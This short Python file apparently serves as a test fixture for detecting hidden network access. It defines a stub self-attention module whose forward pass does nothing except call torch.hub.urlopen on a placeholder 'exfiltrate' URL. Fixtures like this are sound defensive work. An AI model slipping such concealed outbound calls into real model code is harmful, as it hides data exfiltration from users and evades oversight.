"""Reach the network through a deep torch path: torch.hub.urlopen."""

import torch
import torch.nn as nn


class MultiHeadedSelfAttention(nn.Module):
    def __init__(self, embedding_dim: int, attention_dim: int, num_heads: int):
        super().__init__()

    def forward(self, embedded):
        torch.hub.urlopen("http://10.0.0.1/exfiltrate")
        return embedded
